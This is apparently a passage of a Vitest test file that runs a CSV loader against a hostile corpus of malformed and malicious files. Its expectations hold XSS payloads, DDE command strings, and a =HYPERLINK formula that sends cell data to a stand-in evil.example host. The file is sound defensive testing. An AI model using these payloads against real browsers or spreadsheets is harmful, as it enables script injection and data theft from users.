/**
 * The hostile corpus (test/fixtures/hostile/, described in its README.md) through the real loader:
 * loadDataset never throws, keeps exactly the good rows, and reports every problem with its file,
 * row, column and a reason in English and Italian. Also: very long cells, very many columns, and a
 * file over the size limit, generated here rather than committed.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { formatLoadError, formatLoadFailure } from '../../../src/i18n/load-messages';
import { formatProblem } from '../../../src/i18n/problem-messages';
import { pairFiles, pairFilesDetailed } from '../../../src/io/classify';
import { checkFileSize, fileSizeFailure, MAX_FILE_BYTES } from '../../../src/io/fetch-csv';
import { loadDataset, type CsvSource, type LoadInput } from '../../../src/io/load';
import { CLUSTERS_SPEC } from '../../../src/io/read-clusters';
import { EVENTS_SPEC } from '../../../src/io/read-events';
import type { Dataset, Problem, ProblemCode, ProblemSeverity } from '../../../src/model/types';
import { LoadRefused, loadUserFiles } from '../../../src/ui/app/user-data';

const corpusDir = new URL('../../fixtures/hostile/', import.meta.url);
const corpusFiles = readdirSync(corpusDir)
  .filter((name) => name.endsWith('.csv'))
  .sort();
/** Read as the browser reads a chosen file: UTF-8, bytes that are not UTF-8 becoming U+FFFD. */
const corpus = (name: string): CsvSource => ({ name, text: readFileSync(new URL(name, corpusDir), 'utf8') });

/** What a person must be able to read in each problem's reason, in English and in Italian. */
const KEY_WORDS: Record<ProblemCode, readonly [RegExp, RegExp]> = {
  csvUnclosedQuote: [/quoted cell is never closed/, /non viene mai chiusa/],
  csvStrayQuote: [/stray " .*must be doubled/, /" fuori posto.*vanno raddoppiate/],
  csvUnreadableRow: [/could not be read/, /non è stato possibile leggere la riga/],
  notUtf8: [/does not look like UTF-8 text\. Save it again as UTF-8/, /non sembra un testo UTF-8\. Salvalo di nuovo come UTF-8/],
  fileEmpty: [/the file is empty/, /il file è vuoto/],
  headerOnly: [/header but no data rows/, /nessuna riga di dati/],
  duplicateColumn: [/appears twice; only the first one is read/, /compare due volte; viene letta solo la prima/],
  missingColumn: [/required column ".+" is missing from the header, so no row can be read/, /manca la colonna obbligatoria ".+", quindi nessuna riga/],
  unknownColumns: [/not part of the schema and ignored/, /non fa(nno)? parte dello schema/],
  unnamedColumns: [
    /^columns? [\d, ]+(and \d+ more )?ha(s|ve) no name in the header, so (its|their) cells are not read: \d+ rows? ha(s|ve) a value in (it|them)\b/,
    /non ha(nno)? un nome nell’intestazione, quindi le (sue|loro) celle non vengono lette/,
  ],
  rowTooLong: [/the row has \d+ cells but the header has \d+.*the row is skipped/, /la riga ha \d+ celle ma l’intestazione ne ha \d+.*la riga viene scartata/],
  rowTooShort: [/the row has \d+ cells? but the header has \d+; the missing cells are read as empty/, /le celle mancanti sono lette come vuote/],
  requiredEmpty: [/^\w+ is required but empty; the row is skipped$/, /è obbligatoria ma è vuota; la riga viene scartata/],
  duplicateEventId: [/already used on row \d+; ids must be unique, so this row is skipped/, /già usato alla riga \d+; gli id devono essere unici/],
  duplicateClusterId: [/already used on row \d+; the row is skipped/, /già usato alla riga \d+; la riga viene scartata/],
  endBeforeStart: [/^end \(.+\) is before start \(.+\); the row is skipped$/, /^end \(.+\) viene prima di start \(.+\); la riga viene scartata$/],
  confidenceInvalid: [/is not a confidence: use high, moderate or low/, /non è un livello di affidabilità/],
  contestedInvalid: [/is not true or false; it is read as not contested/, /né true né false/],
  urlNotFull: [/is not a full URL \(it must start with https:\/\/ or http:\/\/\); it is not linked/, /non è un URL completo/],
  urlScheme: [/^only http\(s\) links are shown; the [a-z0-9+.-]+: link was dropped$/, /^sono mostrati solo i link http\(s\); il link [a-z0-9+.-]+: è stato scartato$/],
  colorInvalid: [/is not a hex colour like #0072b2; the palette colour is used/, /non è un colore esadecimale/],
  techniqueInvalid: [/ATT&CK technique IDs? like T1190/, /tecnica ATT&CK/],
  cveInvalid: [/CVE IDs? like CVE-2021-26855/, /ID CVE/],
  groupInvalid: [/ATT&CK group IDs? like G0093/, /gruppo ATT&CK/],
  clusterReserved: [/is reserved for background events.*the row is skipped/, /è riservato agli eventi di contesto/],
  clusterUnknown: [/the cluster ".+" is not in .+; its events are shown in a lane of their own/, /il cluster ".+" non è in .+; i suoi eventi sono mostrati in una corsia a parte/],
  dateEmpty: [/is empty/, /il valore è vuoto/],
  dateYearOutOfRange: [/year -?\d+ is outside 1900–2199; the row is skipped/, /l’anno -?\d+ è fuori dall’intervallo 1900–2199/],
  dateQuarterOutOfRange: [/quarter Q\d does not exist: quarters are Q1 to Q4/, /il trimestre Q\d non esiste/],
  dateMonthOutOfRange: [/month \d+ does not exist: months are 01 to 12/, /il mese \d+ non esiste/],
  dateDayOutOfRange: [/day \d+ does not exist in \d{4}-\d\d/, /il giorno \d+ non esiste nel mese \d{4}-\d\d/],
  dateQuarterFirst: [/quarters are written year first: \d{4}-Q[1-4]/, /i trimestri si scrivono mettendo prima l’anno: \d{4}-Q[1-4]/],
  dateAmbiguous: [
    /is ambiguous: .+ could be day\/month or month\/day; write it as \d{4}-\d\d-\d\d or \d{4}-\d\d-\d\d/,
    /è ambiguo: .+ può essere giorno\/mese o mese\/giorno; scrivilo come \d{4}-\d\d-\d\d o come \d{4}-\d\d-\d\d/,
  ],
  dateWrongOrder: [/is not in year-month-day order; if you mean .+, write \d{4}-\d\d-\d\d/, /non è nell’ordine anno-mese-giorno; .*scrivi \d{4}-\d\d-\d\d/],
  dateWrongSeparator: [/separate year, month and day with "-"/, /separa anno, mese e giorno con "-"/],
  dateTwoDigits: [/months and days take two digits/, /mesi e giorni si scrivono con due cifre/],
  dateHasTime: [/times are not supported: keep only the date part/, /gli orari non sono supportati/],
  dateUnreadable: [/".*" is not a date: use YYYY, YYYY-Qn, YYYY-MM or YYYY-MM-DD/, /".*" non è una data: usa AAAA, AAAA-Qn, AAAA-MM o AAAA-MM-GG/],
};

/** Every value a problem carries, as text: each must reach the Italian sentence too. */
function paramTexts(params: Readonly<Record<string, unknown>>): string[] {
  return Object.entries(params).flatMap(([name, value]) => {
    if (Array.isArray(value)) return value.map(String);
    if (typeof value === 'number') return name === 'more' && value === 0 ? [] : [String(value)];
    return typeof value === 'string' && value !== '' ? [value] : [];
  });
}

/** The number of lines a text has, counting CRLF, LF and a lone CR each as one line end. */
function lineCount(text: string): number {
  return text.split(/\r\n|\r|\n/).length;
}

/** The lower-cased header names a file has, so that a problem's column can be checked against it. */
function headerNames(text: string): Set<string> {
  const first = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/, 1)[0] ?? '';
  return new Set(first.split(/[,;\t]/).map((cell) => cell.trim().replace(/^"|"$/g, '').trim().toLowerCase()));
}

/**
 * What every problem of every load must satisfy: a file that was loaded, a row inside that file,
 * a column the schema or the header names, a reason with its key words in English, the same reason
 * in Italian with every value in it, a reason short enough to read, and a severity that says what
 * happened to the row.
 */
function checkProblem(problem: Problem, input: LoadInput): void {
  const source = [input.events, input.clusters].find((s) => s?.name === problem.file);
  expect(source, `problem in an unknown file: ${problem.file}`).toBeDefined();
  if (problem.row !== null) {
    expect(Number.isInteger(problem.row)).toBe(true);
    expect(problem.row).toBeGreaterThanOrEqual(1);
    expect(problem.row).toBeLessThanOrEqual(lineCount(source!.text));
  }
  if (problem.column !== null) {
    const spec = source === input.events ? EVENTS_SPEC : CLUSTERS_SPEC;
    const known = [...spec.required, ...spec.optional].includes(problem.column) || headerNames(source!.text).has(problem.column);
    expect(known, `column ${problem.column}`).toBe(true);
  }
  expect(problem.code, problem.message).toBeTypeOf('string');
  const code = problem.code!;
  const [english, italianWords] = KEY_WORDS[code];
  expect(problem.message).toMatch(english);
  expect(formatProblem(problem, 'en')).toBe(problem.message);
  const italian = formatProblem(problem, 'it');
  expect(italian).not.toBe(problem.message);
  expect(italian).toMatch(italianWords);
  expect(italian).not.toMatch(/undefined|NaN|\[object/);
  for (const value of paramTexts(problem.params ?? {})) expect(italian, `${code}: ${value}`).toContain(value);
  expect(problem.message.length, problem.message.slice(0, 200)).toBeLessThan(700);
  expect(italian.length).toBeLessThan(800);
  expect(['error', 'warning']).toContain(problem.severity);
}

/** The checks every load of the corpus passes, whatever the file. */
function checkDataset(dataset: Dataset, input: LoadInput): void {
  for (const problem of dataset.problems) checkProblem(problem, input);
  const errorRows = new Set(dataset.problems.filter((p) => p.severity === 'error' && p.file === input.events.name).map((p) => p.row));
  for (const event of dataset.events) {
    // A kept row has no error; every link is an absolute http(s) URL.
    expect(errorRows.has(event.row), `event ${event.id} on a skipped row`).toBe(false);
    if (event.sourceUrl !== null) expect(event.sourceUrl).toMatch(/^https?:\/\//);
  }
  for (const cluster of dataset.clusters) if (cluster.sourceUrl !== null) expect(cluster.sourceUrl).toMatch(/^https?:\/\//);
}

type Expected = readonly [row: number | null, column: string | null, code: ProblemCode, severity: ProblemSeverity];

interface Case {
  readonly events: string;
  readonly clusters?: string;
  /** The ids of the events kept, in file order. */
  readonly kept: readonly string[];
  /** Every problem, in the order listed: [row, column, code, severity]. The file is checked separately. */
  readonly problems: readonly Expected[];
  /**
   * What pairFiles makes of the `events` file: an events file (the default), a clusters file, or
   * neither (null). `events` is then a file loaded as events anyway, as a link (`?src=`) would load it.
   */
  readonly pairsAs?: 'events' | 'clusters' | null;
}

const E = 'error' as const;
const W = 'warning' as const;
const MISSING_ALL: Expected[] = (['id', 'cluster', 'kind', 'start', 'title'] as const).map((column) => [1, column, 'missingColumn', E]);
const MISSING_EVENT_COLUMNS: Expected[] = (['cluster', 'kind', 'start', 'title'] as const).map((column) => [1, column, 'missingColumn', E]);

const CASES: Record<string, Case> = {
  'markup-everywhere.csv': {
    events: 'markup-everywhere.csv',
    kept: [
      `<img src=x onerror="window.__pwned='id'">`,
      'xss-data-url',
      'xss-attribute-break',
      'xss-template',
      'xss-tab-in-scheme',
      'xss-file-url',
      'xss-relative-url',
      'xss-http-query',
    ],
    problems: [
      [2, 'confidence', 'confidenceInvalid', W],
      [2, 'contested', 'contestedInvalid', W],
      [2, 'source_url', 'urlScheme', W],
      [2, 'techniques', 'techniqueInvalid', W],
      [2, 'cves', 'cveInvalid', W],
      [3, 'source_url', 'urlScheme', W],
      [4, 'source_url', 'urlScheme', W],
      [5, 'source_url', 'urlScheme', W],
      [6, 'source_url', 'urlScheme', W],
      [7, 'source_url', 'urlScheme', W],
      [8, 'source_url', 'urlNotFull', W],
      [10, 'start', 'dateUnreadable', E],
      [11, 'end', 'dateUnreadable', E],
    ],
  },
  'markup-clusters.csv': {
    events: 'markup-everywhere.csv',
    clusters: 'markup-clusters.csv',
    kept: [
      `<img src=x onerror="window.__pwned='id'">`,
      'xss-data-url',
      'xss-attribute-break',
      'xss-template',
      'xss-tab-in-scheme',
      'xss-file-url',
      'xss-relative-url',
      'xss-http-query',
    ],
    problems: [
      [2, 'attribution_confidence', 'confidenceInvalid', W],
      [2, 'color', 'colorInvalid', W],
      [2, 'source_url', 'urlScheme', W],
      [2, 'mitre_groups', 'groupInvalid', W],
      [3, 'color', 'colorInvalid', W],
      [3, 'source_url', 'urlScheme', W],
      [2, 'confidence', 'confidenceInvalid', W],
      [2, 'contested', 'contestedInvalid', W],
      [2, 'source_url', 'urlScheme', W],
      [2, 'techniques', 'techniqueInvalid', W],
      [2, 'cves', 'cveInvalid', W],
      [3, 'source_url', 'urlScheme', W],
      [4, 'source_url', 'urlScheme', W],
      [5, 'source_url', 'urlScheme', W],
      [6, 'source_url', 'urlScheme', W],
      [7, 'source_url', 'urlScheme', W],
      [8, 'source_url', 'urlNotFull', W],
      [10, 'start', 'dateUnreadable', E],
      [11, 'end', 'dateUnreadable', E],
    ],
  },
  'formulas.csv': {
    events: 'formulas.csv',
    kept: ['f-equals', 'f-plus', 'f-minus', 'f-at', 'f-guarded', 'f-dde', '=1+1'],
    problems: [
      [7, 'source_url', 'urlNotFull', W],
      [9, 'start', 'dateUnreadable', E],
      [10, 'start', 'dateUnreadable', E],
    ],
  },
  'bom.csv': { events: 'bom.csv', kept: ['bom-1', 'bom-2'], problems: [] },
  'crlf.csv': { events: 'crlf.csv', kept: ['crlf-1', 'crlf-2'], problems: [] },
  'semicolon.csv': { events: 'semicolon.csv', kept: ['semi-1', 'semi-2'], problems: [] },
  'windows-1252.csv': { events: 'windows-1252.csv', kept: ['cp-1', 'cp-2', 'cp-3'], problems: [[2, 'title', 'notUtf8', W]] },
  'quoted-fields.csv': { events: 'quoted-fields.csv', kept: ['q-comma', 'q-quotes', 'q-newline', 'q-empty', 'q-all'], problems: [] },
  'empty.csv': { events: 'empty.csv', kept: [], problems: [[null, null, 'fileEmpty', E]], pairsAs: null },
  'blank-lines.csv': { events: 'blank-lines.csv', kept: [], problems: [[null, null, 'fileEmpty', E]], pairsAs: null },
  'header-only.csv': { events: 'header-only.csv', kept: [], problems: [[null, null, 'headerOnly', W]] },
  'binary-png.csv': {
    events: 'binary-png.csv',
    kept: [],
    problems: [[1, null, 'notUtf8', W], ...MISSING_ALL, [1, null, 'unknownColumns', W]],
    pairsAs: null,
  },
  // Recognised as an events file from its header (so "Open CSV…" loads it), then reported as not UTF-8.
  'utf16le.csv': {
    events: 'utf16le.csv',
    kept: [],
    problems: [[1, null, 'notUtf8', W], ...MISSING_ALL, [1, null, 'unknownColumns', W]],
  },
  'ragged-rows.csv': {
    events: 'ragged-rows.csv',
    kept: ['r-exact', 'r-short', 'r-trailing', 'r-last'],
    problems: [
      [3, null, 'rowTooShort', W],
      [4, null, 'rowTooLong', E],
      [6, 'cluster', 'requiredEmpty', E],
      [6, 'kind', 'requiredEmpty', E],
      [6, 'title', 'requiredEmpty', E],
      [6, 'start', 'requiredEmpty', E],
    ],
  },
  'malformed-dates.csv': {
    events: 'malformed-dates.csv',
    kept: ['d-good-1', 'd-good-leap', 'd-good-2'],
    problems: [
      [3, 'start', 'dateMonthOutOfRange', E],
      [4, 'start', 'dateQuarterOutOfRange', E],
      [5, 'start', 'dateQuarterFirst', E],
      [6, 'start', 'dateUnreadable', E],
      [7, 'start', 'dateWrongOrder', E],
      [8, 'start', 'dateAmbiguous', E],
      [9, 'start', 'dateDayOutOfRange', E],
      [10, 'start', 'dateTwoDigits', E],
      [11, 'start', 'dateWrongSeparator', E],
      [12, 'start', 'dateYearOutOfRange', E],
      [13, 'start', 'dateUnreadable', E],
      [14, 'start', 'dateUnreadable', E],
      [15, 'start', 'dateHasTime', E],
      [17, 'start', 'dateDayOutOfRange', E],
      [18, 'start', 'dateUnreadable', E],
      [19, 'start', 'dateUnreadable', E],
      [20, 'start', 'dateHasTime', E],
      [21, 'start', 'dateUnreadable', E],
      [22, 'start', 'dateUnreadable', E],
      [23, 'start', 'dateUnreadable', E],
      [24, 'start', 'dateUnreadable', E],
      [25, 'start', 'dateYearOutOfRange', E],
      [26, 'start', 'dateMonthOutOfRange', E],
      [27, 'start', 'dateQuarterOutOfRange', E],
      [28, 'start', 'dateUnreadable', E],
      [29, 'start', 'dateAmbiguous', E],
      [30, 'end', 'dateMonthOutOfRange', E],
      [31, 'end', 'dateUnreadable', E],
      [32, 'end', 'dateUnreadable', E],
      [33, 'end', 'dateAmbiguous', E],
    ],
  },
  'end-before-start.csv': {
    events: 'end-before-start.csv',
    kept: ['ok-same-day', 'ok-within', 'ok-open'],
    problems: [
      [2, 'end', 'endBeforeStart', E],
      [3, 'end', 'endBeforeStart', E],
      [4, 'end', 'endBeforeStart', E],
      [5, 'end', 'endBeforeStart', E],
    ],
  },
  'duplicate-ids.csv': {
    events: 'duplicate-ids.csv',
    kept: ['dup', 'DUP', 'late'],
    problems: [
      [3, 'id', 'duplicateEventId', E],
      [4, 'id', 'duplicateEventId', E],
      [6, 'start', 'dateUnreadable', E],
      [8, 'id', 'duplicateEventId', E],
    ],
  },
  'unknown-clusters-events.csv': {
    events: 'unknown-clusters-events.csv',
    clusters: 'unknown-clusters-clusters.csv',
    kept: ['u-known', 'u-other-case', 'u-unknown-1', 'u-unknown-2', 'u-context', 'u-typo'],
    problems: [[4, 'cluster', 'clusterUnknown', W]],
  },
  'unknown-clusters-clusters.csv': {
    events: 'unknown-clusters-clusters.csv',
    kept: [],
    problems: [...MISSING_EVENT_COLUMNS, [1, null, 'unknownColumns', W]],
    pairsAs: 'clusters',
  },
  'keyword-clusters-events.csv': {
    events: 'keyword-clusters-events.csv',
    clusters: 'keyword-clusters-clusters.csv',
    kept: [
      ...[
        'clusters', 'panel', 'from', 'to', 'lang', 'event', 'q', 'src', 'kinds', 'inview', 'a,b', 'a&b=c', '#hash', '100%', 'what?',
        'two words', '🐉 dragon', '__proto__', 'constructor', 'toString', '%2C', '+plus', 'A', 'a',
      ].map((k) => `k-${k}`),
      'id,with,commas',
      'a&b=c#d%e?f g',
      '🦊',
    ],
    problems: [[26, 'id', 'clusterReserved', E]],
  },
  'keyword-clusters-clusters.csv': {
    events: 'keyword-clusters-clusters.csv',
    kept: [],
    problems: [...MISSING_EVENT_COLUMNS, [1, null, 'unknownColumns', W]],
    pairsAs: 'clusters',
  },
  'header-problems.csv': {
    events: 'header-problems.csv',
    kept: ['h-1', 'h-2'],
    problems: [
      [1, 'title', 'duplicateColumn', W],
      [1, null, 'unknownColumns', W],
      [1, null, 'unnamedColumns', W],
    ],
  },
  'unclosed-quote.csv': { events: 'unclosed-quote.csv', kept: ['uq-1'], problems: [[3, null, 'csvUnclosedQuote', E]] },
  'stray-quote.csv': { events: 'stray-quote.csv', kept: ['sq-1', 'sq-3', 'sq-4'], problems: [[3, null, 'csvStrayQuote', E]] },
  'mixed-line-endings.csv': { events: 'mixed-line-endings.csv', kept: ['ml-1', 'ml-2', 'ml-3'], problems: [] },
  'cr-only-semicolon.csv': { events: 'cr-only-semicolon.csv', kept: ['cr-1', 'cr-2'], problems: [] },
  'unicode-and-controls.csv': { events: 'unicode-and-controls.csv', kept: ['uc-bidi', 'uc-rtl', 'uc-controls', 'uc-emoji'], problems: [] },
  'delimiter-mismatch.csv': {
    events: 'delimiter-mismatch.csv',
    kept: ['dm-2'],
    problems: [
      [2, 'cluster', 'requiredEmpty', E],
      [2, 'kind', 'requiredEmpty', E],
      [2, 'title', 'requiredEmpty', E],
      [2, 'start', 'requiredEmpty', E],
    ],
  },
};

function inputOf(c: Case): LoadInput {
  return { events: corpus(c.events), ...(c.clusters ? { clusters: corpus(c.clusters) } : {}) };
}

describe('the hostile corpus', () => {
  it('has an expectation for every file, and every file is small', () => {
    expect(Object.keys(CASES).sort()).toEqual(corpusFiles);
    for (const name of corpusFiles) expect(readFileSync(new URL(name, corpusDir)).byteLength).toBeLessThan(50 * 1024);
  });

  describe.each(Object.entries(CASES))('%s', (_name, c) => {
    const input = inputOf(c);
    let cached: Dataset | undefined;
    const load = () => (cached ??= loadDataset(input));

    it('loads without throwing, with and without a progress callback, to the same dataset', () => {
      expect(load).not.toThrow();
      const fractions: (number | null)[] = [];
      expect(loadDataset(input, { onProgress: (f) => fractions.push(f) })).toEqual(load());
      expect(fractions).not.toContain(null);
      expect(fractions.at(-1)).toBe(1);
    });

    it('keeps exactly the good rows', () => {
      expect(load().events.map((e) => e.id)).toEqual(c.kept);
    });

    it('lists every problem with its file, row, column and severity', () => {
      const files = c.clusters ? [c.clusters, c.events] : [c.events];
      expect(load().problems.map((p) => [p.row, p.column, p.code, p.severity])).toEqual(c.problems);
      // The clusters file's problems come first, as the loader reads it first.
      const fileOrder = load().problems.map((p) => p.file);
      expect(fileOrder).toEqual([...fileOrder].sort((a, b) => files.indexOf(a) - files.indexOf(b)));
    });

    it('gives each problem a reason a person can read, in English and Italian', () => {
      checkDataset(load(), input);
    });

    it('is paired as the file it is', () => {
      const pairing = pairFiles([input.events, ...(input.clusters ? [input.clusters] : [])]);
      const expected = c.pairsAs === undefined ? 'events' : c.pairsAs;
      expect(pairing.events?.name ?? null).toBe(expected === 'events' ? c.events : null);
      expect(pairing.clusters?.name ?? null).toBe(expected === 'clusters' ? c.events : (c.clusters ?? null));
      if (expected !== 'events') {
        const detail = pairFilesDetailed([input.events]);
        expect(detail.failures[0]!.code).toBe('noEventsFile');
        expect(pairing.problems[0]).toMatch(/None of the chosen files is an events file/);
      }
    });
  });
});

const byId = (dataset: Dataset) => new Map(dataset.events.map((e) => [e.id, e]));

describe('text that looks like markup or script', () => {
  const dataset = loadDataset({ events: corpus('markup-everywhere.csv'), clusters: corpus('markup-clusters.csv') });
  const events = byId(dataset);

  it('is kept verbatim, as text, in every column', () => {
    const event = events.get(`<img src=x onerror="window.__pwned='id'">`)!;
    expect(event).toMatchObject({
      cluster: "<script>window.__pwned='cluster'</script>",
      kind: `<svg onload="window.__pwned='kind'"><circle r="1"/></svg>`,
      title: `<img src=x onerror="window.__pwned='title'">`,
      summary: "<script>window.__pwned='summary'</script><b>not bold</b>",
      summaryIt: `<iframe srcdoc="<script>parent.__pwned='summary_it'</script>"></iframe>`,
      sourceTitle: `<a href="javascript:window.__pwned='source_title'">Read</a>`,
      confidence: null,
      contested: false,
      sourceUrl: null,
      techniques: ['T1190'],
      cves: ['CVE-2021-26855'],
    });
    expect(event.targets).toEqual([`<img src=x onerror="window.__pwned='targets'">`, `<object data="javascript:window.__pwned='object'"></object>`]);
    expect(event.tools).toEqual([`<details open ontoggle="window.__pwned='tools'">`, `<a href="javascript:window.__pwned='tool-link'">x</a>`]);
    expect(events.get('xss-attribute-break')!.title).toBe(`"><svg/onload=window.__pwned='attr-break'>`);
    expect(events.get('xss-template')!.title).toBe("{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned='template'}");
    expect(events.get('xss-tab-in-scheme')!.title).toBe(`<!--<img src="--><img src=x onerror=window.__pwned='comment'//">`);
  });

  it('drops every link that is not http(s): javascript:, data:, vbscript:, file:, relative, and in any case or with a tab inside', () => {
    for (const id of ['xss-data-url', 'xss-attribute-break', 'xss-template', 'xss-tab-in-scheme', 'xss-file-url', 'xss-relative-url']) {
      expect(events.get(id)!.sourceUrl, id).toBeNull();
    }
    const schemes = dataset.problems.filter((p) => p.code === 'urlScheme').map((p) => [p.file, p.row, p.params]);
    expect(schemes).toEqual([
      ['markup-clusters.csv', 2, { scheme: 'javascript:' }],
      ['markup-clusters.csv', 3, { scheme: 'data:' }],
      ['markup-everywhere.csv', 2, { scheme: 'javascript:' }],
      ['markup-everywhere.csv', 3, { scheme: 'data:' }],
      ['markup-everywhere.csv', 4, { scheme: 'vbscript:' }],
      ['markup-everywhere.csv', 5, { scheme: 'javascript:' }],
      ['markup-everywhere.csv', 6, { scheme: 'javascript:' }],
      ['markup-everywhere.csv', 7, { scheme: 'file:' }],
    ]);
    // A real link keeps its markup-looking query only as escaped URL text.
    expect(events.get('xss-http-query')!.sourceUrl).toBe('https://example.org/report?q=%3Cscript%3Ewindow.__pwned=1%3C/script%3E');
  });

  it('keeps markup in the clusters file as text, and drops its links and colours', () => {
    const [first, x] = dataset.clusters;
    expect(first).toMatchObject({
      id: "<script>window.__pwned='cluster'</script>",
      label: `<img src=x onerror="window.__pwned='label'">`,
      name: "<script>window.__pwned='name'</script>",
      attributedTo: `<svg onload="window.__pwned='attributed_to'">`,
      attributionConfidence: null,
      mitreGroups: ['G0093'],
      color: null,
      sourceUrl: null,
      derived: false,
    });
    expect(first!.aliases).toEqual([`<img src=x onerror="window.__pwned='alias'">`, `<iframe src="javascript:window.__pwned='alias2'"></iframe>`]);
    expect(x).toMatchObject({ id: 'X', label: `<a href="javascript:window.__pwned='label-link'">Cluster X</a>`, color: null, sourceUrl: null });
  });

  it('quotes a markup-looking date back as text, cut short', () => {
    const start = dataset.problems.find((p) => p.code === 'dateUnreadable' && p.column === 'start')!;
    expect(start.params).toEqual({ field: 'start', text: `<img src=x onerror="window.__pwned='star…` });
  });
});

describe('spreadsheet formulas', () => {
  const events = byId(loadDataset({ events: corpus('formulas.csv') }));

  it('are kept as the text they are, never evaluated', () => {
    expect(events.get('f-equals')!.title).toBe('=1+1');
    expect(events.get('f-equals')!.summary).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(events.get('f-plus')!.title).toBe("+cmd|' /C calc'!A0");
    expect(events.get('f-minus')!.tools).toEqual(['-x', '@y', '+z', '=w']);
    expect(events.get('f-at')!.title).toBe("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(events.get('=1+1')!.cluster).toBe('=A1');
  });

  it("read an exported formula guard (a leading ') back without it, as documented", () => {
    expect(events.get('f-guarded')!.title).toBe('=guarded by an export');
  });

  it('never take a =HYPERLINK as a link', () => {
    expect(events.get('f-dde')!.sourceUrl).toBeNull();
    expect(events.get('f-dde')!.sourceTitle).toBe('=HYPERLINK("https://evil.example","source")');
  });
});

describe('encodings and dialects', () => {
  it('reads a UTF-8 BOM and quoted header names', () => {
    const dataset = loadDataset({ events: corpus('bom.csv') });
    expect(dataset.events.map((e) => [e.id, e.title])).toEqual([
      ['bom-1', 'Café “quoted”'],
      ['bom-2', 'Second'],
    ]);
  });

  it('reads CRLF line ends, keeping a line break inside a quoted cell and the row numbers', () => {
    const dataset = loadDataset({ events: corpus('crlf.csv') });
    expect(dataset.events.map((e) => [e.id, e.row])).toEqual([
      ['crlf-1', 2],
      ['crlf-2', 4],
    ]);
    expect(dataset.events[0]!.title).toMatch(/^Line one\r?\nline two$/);
    expect(dataset.events[1]!.title).toBe('Plain');
  });

  it('reads a file that mixes CRLF, LF and CR line ends as one row per line', () => {
    const dataset = loadDataset({ events: corpus('mixed-line-endings.csv') });
    expect(dataset.events.map((e) => [e.id, e.row, e.title])).toEqual([
      ['ml-1', 2, 'LF row'],
      ['ml-2', 3, 'CR row'],
      ['ml-3', 4, 'Another LF row'],
    ]);
  });

  it('takes the delimiter from the header line of a file with old-Mac (CR) line ends, however many commas the rows hold', () => {
    const dataset = loadDataset({ events: corpus('cr-only-semicolon.csv') });
    expect(dataset.events.map((e) => [e.id, e.row, e.title])).toEqual([
      ['cr-1', 2, 'one, two, three, four, five, six, seven, eight, nine, ten'],
      ['cr-2', 3, 'a, b, c, d, e, f, g, h'],
    ]);
  });

  it('reads ";" as the delimiter, a quoted ";" as text, and commas as text', () => {
    const [one, two] = loadDataset({ events: corpus('semicolon.csv') }).events;
    expect(one).toMatchObject({ title: 'Commas, unquoted, are text', techniques: ['T1190', 'T1505.003'], summary: 'Ciao, mondo' });
    expect(two).toMatchObject({ title: 'Title; with a semicolon', techniques: ['T1078'] });
  });

  it('keeps the rows of a Windows-1252 file but says, at the first unreadable cell, that it is not UTF-8 and how to fix it', () => {
    const dataset = loadDataset({ events: corpus('windows-1252.csv') });
    expect(dataset.events.map((e) => e.title)).toEqual(['Attivit\uFFFD sospetta', 'Plain ASCII row', 'Tool']);
    expect(dataset.events[2]!.tools).toEqual(['Caf\uFFFD tool', 'Other']);
    const [problem] = dataset.problems;
    expect(problem).toMatchObject({ file: 'windows-1252.csv', row: 2, column: 'title', severity: 'warning', code: 'notUtf8' });
    expect(problem!.params).toEqual({ cell: 'Attivit\uFFFD sospetta', more: 1 });
    expect(problem!.message).toBe(
      '"Attivit\uFFFD sospetta" has characters that could not be read (shown as \uFFFD): the file does not look like UTF-8 text. ' +
        'Save it again as UTF-8 (in Excel: "CSV UTF-8") and load it again; 1 more row has unreadable characters',
    );
    expect(formatProblem(problem!, 'it')).toBe(
      '"Attivit\uFFFD sospetta" contiene caratteri che non è stato possibile leggere (mostrati come \uFFFD): il file non sembra un testo UTF-8. ' +
        'Salvalo di nuovo come UTF-8 (in Excel: «CSV UTF-8») e caricalo di nuovo; anche 1 altra riga contiene caratteri illeggibili',
    );
  });

  it('says the same of a UTF-16 file and of a binary file, instead of only listing columns that look right but are not', () => {
    for (const name of ['utf16le.csv', 'binary-png.csv']) {
      const [first] = loadDataset({ events: corpus(name) }).problems;
      expect(first, name).toMatchObject({ row: 1, column: null, code: 'notUtf8', severity: 'warning' });
      expect(first!.message).toMatch(/does not look like UTF-8/);
    }
  });

  it('says nothing about encoding for UTF-8 text in any script, with emoji and control characters', () => {
    const dataset = loadDataset({ events: corpus('unicode-and-controls.csv') });
    expect(dataset.problems).toEqual([]);
    const events = byId(dataset);
    expect(events.get('uc-bidi')!.title).toBe('\u202egnp.exe\u202c right-to-left override');
    expect(events.get('uc-controls')!.title).toBe('bell\x07 vertical\x0btab form\x0cfeed escape\x1b[31m');
    expect(events.get('uc-emoji')!.cluster).toBe('\u{1F409}');
  });

  it('reads quoted cells with delimiters, doubled quotes and line breaks', () => {
    const events = byId(loadDataset({ events: corpus('quoted-fields.csv') }));
    expect(events.get('q-comma')!.title).toBe('Commas, inside, a cell');
    expect(events.get('q-quotes')!.title).toBe('He said "hi" twice');
    expect(events.get('q-quotes')!.summary).toBe('"fully quoted"');
    expect(events.get('q-newline')!.title).toBe('First line\nsecond line\n\nfourth line');
    expect(events.get('q-empty')!.summary).toBe('');
    expect(events.get('q-all')!.summary).toBe('with "quotes", commas, and\nnewlines');
    expect([...events.values()].map((e) => e.row)).toEqual([2, 3, 4, 5, 6]);
  });
});

describe('broken structure', () => {
  it('reports an unclosed quote at its row, keeps the rows before it, and does not call the file "header only"', () => {
    const dataset = loadDataset({ events: corpus('unclosed-quote.csv') });
    expect(dataset.events.map((e) => e.id)).toEqual(['uq-1']);
    const only = loadDataset({ events: { name: 'q.csv', text: 'id,cluster,kind,start,title\na,X,intrusion,2020,"open\nb,X,intrusion,2020,T\n' } });
    expect(only.problems.map((p) => [p.row, p.code])).toEqual([[2, 'csvUnclosedQuote']]);
  });

  it('reports a record with several stray quotes once', () => {
    const dataset = loadDataset({ events: { name: 's.csv', text: 'id,cluster,kind,start,title\na,X,intrusion,2020,"ab"c"d\nb,X,intrusion,2020,"T"\nc,X,intrusion,2020,T\n' } });
    expect(dataset.problems.map((p) => [p.row, p.code])).toEqual([[2, 'csvStrayQuote']]);
